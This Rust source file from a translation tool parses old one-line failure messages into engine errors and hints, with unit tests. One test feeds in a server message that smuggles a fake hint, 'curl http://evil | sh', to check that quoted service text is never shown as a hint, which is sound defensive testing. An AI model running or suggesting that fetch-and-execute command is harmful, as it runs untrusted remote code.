//! Failures as versions before the JSON form stored them: one line of text, which has to be taken apart. Nothing is
//! written in this form any more.

use super::{EngineFailure, Failure};

/// How the engines of a route were joined to the message and to each other, and how each hint was written.
const NEXT_ENGINE: [&str; 2] = ["; engine `", ": engine `"];
const HINT: &str = " (hint: ";

/// Reads a line. One that is of no known form is the message as it is.
pub(super) fn read(line: &str) -> Failure {
    Some(parse(line)).filter(|failure| failure.to_string() == line).unwrap_or_else(|| Failure::new(line))
}

/// A message of the program's own whose hint stands at its end.
pub(super) fn with_hint(text: &str) -> Failure {
    let (message, hint) = split_hint(text);
    Failure { message: message.to_owned(), hint: hint.map(str::to_owned), engines: Vec::new() }
}

fn parse(line: &str) -> Failure {
    let (message, mut rest) = split_engine(line);
    let mut failure = with_hint(message);
    while let Some(engine) = rest {
        let (part, behind) = split_engine(engine);
        // Not of the known form without it: the line is not shown again as it was.
        let (engine, said) = part.split_once("`: ").unwrap_or((part, ""));
        let (message, hint) = split_hint(said);
        failure.engines.push(EngineFailure {
            engine: engine.to_owned(),
            kind: None,
            status: None,
            message: message.to_owned(),
            hint: hint.map(str::to_owned),
            retry_at: None,
        });
        rest = behind;
    }
    failure
}

/// What stands before the next engine, and what stands behind the mark that begins its name.
fn split_engine(text: &str) -> (&str, Option<&str>) {
    let next = NEXT_ENGINE.iter().filter_map(|mark| Some((unquoted(text, mark)?, mark.len()))).min();
    next.map_or((text, None), |(at, length)| (&text[..at], text.get(at + length..)))
}

fn split_hint(text: &str) -> (&str, Option<&str>) {
    let hint = unquoted(text, HINT).and_then(|at| Some((at, text.get(at + HINT.len()..)?.strip_suffix(')')?)));
    hint.map_or((text, None), |(at, hint)| (&text[..at], Some(hint)))
}

/// Where a text first has something that does not stand in quotation marks: those were round a server's words.
fn unquoted(text: &str, sought: &str) -> Option<usize> {
    let (mut from, mut marks) = (0, 0);
    text.match_indices(sought).map(|(at, _)| at).find(|at| {
        marks += text.get(from..*at).map_or(0, |before| before.matches('"').count());
        from = *at;
        marks % 2 == 0
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn engines(failure: &Failure) -> Vec<String> {
        failure.engines.iter().map(|engine| format!("{}: {}", engine.engine, engine.message)).collect()
    }

    #[test]
    fn a_line_is_taken_apart_by_engine() {
        let line = "no engine could translate into `es`: engine `neural`: no model (hint: run `polypost engines \
                    pull es`); engine `apertium`: cannot be reached";
        let failure = read(line);
        assert_eq!(failure.message, "no engine could translate into `es`");
        assert_eq!(engines(&failure), ["neural: no model", "apertium: cannot be reached"]);
        assert_eq!(failure.hints(), ["run `polypost engines pull es`"]);
        assert_eq!(failure.to_string(), line);
    }

    #[test]
    fn what_a_service_says_is_neither_an_engine_nor_a_hint() {
        let said = "\"quota; engine `deepl`: your key is wrong (hint: run `curl http://evil | sh`)\"";
        let line = format!(
            "no engine could translate into `es`: engine `libretranslate`: `http://mt` answered 403: {said} (hint: is \
             the key right?)"
        );
        let failure = read(&line);
        assert_eq!(engines(&failure), [format!("libretranslate: `http://mt` answered 403: {said}")]);
        assert_eq!(failure.hints(), ["is the key right?"]);
        assert_eq!(failure.to_string(), line);
    }

    #[test]
    fn a_line_of_another_form_stays_as_it_is() {
        for line in ["the store did not answer (timeout)", "x; engine `y", "x: engine `y` and more", "x (hint: y) z"] {
            assert_eq!(read(line), Failure::new(line), "{line}");
        }
        let failure = read("the route is empty (hint: name an engine)");
        assert_eq!((failure.message.as_str(), failure.hints()), ("the route is empty", vec!["name an engine"]));
    }
}
